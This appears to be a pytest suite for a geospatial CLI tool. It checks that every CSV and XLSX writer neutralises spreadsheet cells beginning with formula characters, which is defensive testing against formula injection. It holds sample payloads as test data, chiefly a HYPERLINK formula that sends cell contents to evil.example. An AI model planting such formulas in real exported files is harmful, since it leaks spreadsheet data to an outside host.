"""One formula guard (zkq_geo.cells) for every CSV/XLSX the project writes: a cell starting with
``= + - @`` (or tab/CR) is neutralised the same way by each writer — the CLI's show, efficiency,
join, evaluate and control, the exports, the evaluation workbook and the app's CSV download."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from zkqcli import run

from zkq_geo.cells import is_formula_like, neutralise, neutralise_frame, set_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PREFIXES = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", PREFIXES)
def test_every_formula_prefix_is_neutralised(value):
    assert is_formula_like(value) and neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["正常", "a=b", "", None, 5, -5.0, float("nan")])
def test_other_values_are_left_alone(value):
    out = neutralise(value)
    assert out is value or (out != out and value != value)


def test_neutralise_frame_keeps_numbers_and_guards_text_and_headers():
    df = pd.DataFrame({"name": [EVIL, "甲"], "=x": ["-2", "b"], "n": [-1.5, 2.0]})
    out = neutralise_frame(df)
    assert out["name"].tolist() == ["'" + EVIL, "甲"] and out["'=x"].tolist() == ["'-2", "b"]
    assert out["n"].tolist() == [-1.5, 2.0] and df["name"][0] == EVIL  # the input is not changed


def test_set_cell_writes_formula_like_text_as_text():
    ws = openpyxl.Workbook().active
    cell = set_cell(ws, 1, 1, EVIL)
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix
    assert set_cell(ws, 1, 2, 3.5).value == 3.5 and set_cell(ws, 1, 3, float("inf")).value is None


# ----------------------------------------------------------------------------- every writer
@pytest.fixture
def ws(tmp_path) -> Path:
    return tmp_path / "ws"


@pytest.fixture
def evil_layer(tmp_path, ws) -> str:
    """An imported layer whose feature name is a formula."""
    path = tmp_path / "evil.geojson"
    gdf = gpd.GeoDataFrame(
        {"name": [EVIL, "甲"], "investment_yi": [1.0, 2.0], "land_area_mu": [10.0, 20.0]},
        geometry=[shapely.Point(113.75, 34.72), shapely.Point(113.76, 34.72)],
        crs="EPSG:4326",
    )
    gdf.to_file(path, driver="GeoJSON")
    r = run(ws, "import", path, "--as", "evil")
    assert r.returncode == 0, r.stderr
    return "evil"


def _csv_names(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]


@pytest.mark.parametrize("command", [["show"], ["efficiency"]])
def test_cli_show_and_efficiency_csv(command, evil_layer, ws):
    r = run(ws, *command, evil_layer, "--format", "csv")
    assert r.returncode == 0, r.stderr
    assert "'" + EVIL in _csv_names(r.stdout, "name")


def test_cli_join_csv(evil_layer, ws, tmp_path):
    ledger = tmp_path / "ledger.csv"
    ledger.write_text(f'name,note\n"{EVIL.replace(chr(34), chr(34) * 2)}",=2+2\n', encoding="utf-8")
    r = run(ws, "join", evil_layer, ledger, "--key", "name", "--format", "table")
    assert r.returncode == 0, r.stderr
    r = run(ws, "join", evil_layer, ledger, "--key", "name", "--as", "joined")
    assert r.returncode == 0, r.stderr
    r = run(ws, "show", "joined", "--format", "csv")
    assert "'" + EVIL in _csv_names(r.stdout, "name") and "'=2+2" in _csv_names(r.stdout, "note")


LEDGER = (
    "统一社会信用代码,企业名称,用地面积（平方米）,税收（元）,营业收入（万元）,用电量（千瓦时）,用地方式\n"
    'H1,甲,6666.666667,1000000,1000,1000000,自有\nH2,"=HYPERLINK(""http://x"")",6666.666667,3000000,3000,1000000,自有\n'
)


def test_cli_evaluate_and_control_csv(tmp_path, ws):
    ledger = tmp_path / "台账.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    r = run(ws, "evaluate", ledger, "--scheme", "huaian", "--format", "csv")
    assert r.returncode == 0, r.stderr
    assert '\'=HYPERLINK("http://x")' in _csv_names(r.stdout, "name")
    out = tmp_path / "control.csv"
    r = run(ws, "control", ledger, "--invest-min", "100", "--format", "csv", "-o", out)
    assert r.returncode == 0, r.stderr
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_cli_evaluate_xlsx(tmp_path, ws):
    ledger = tmp_path / "台账.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    out = tmp_path / "e.xlsx"
    assert run(ws, "evaluate", ledger, "--scheme", "huaian", "-o", out).returncode == 0
    cells = [
        c
        for sheet in openpyxl.load_workbook(out)
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")
    ]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_csv_and_xlsx(fmt, evil_layer, ws, tmp_path):
    out = tmp_path / f"x.{fmt}"
    assert run(ws, "export", evil_layer, "--format", fmt, "-o", out).returncode == 0
    if fmt == "csv":
        assert "'" + EVIL in _csv_names(out.read_text(encoding="utf-8-sig"), "name")
    else:
        names = [c for c in openpyxl.load_workbook(out).worksheets[0]["B"] if c.value == EVIL]
        assert names and all(c.quotePrefix for c in names)


def test_the_apps_evaluation_csv_download(tmp_path):
    sys.path.insert(0, str(Path(__file__).resolve().parents[3] / "app"))
    try:
        import evaluation_data
    finally:
        sys.path.pop(0)
    from zkq_geo.evaluation.evaluate import evaluate
    from zkq_geo.evaluation.ledger import read_ledger
    from zkq_geo.evaluation.scheme import load_scheme

    ledger = tmp_path / "台账.csv"
    ledger.write_text(LEDGER, encoding="utf-8")
    data = evaluation_data.csv_bytes(evaluate(read_ledger(ledger), load_scheme("huaian")))
    assert '\'=HYPERLINK("http://x")' in _csv_names(data.decode("utf-8-sig"), "name")
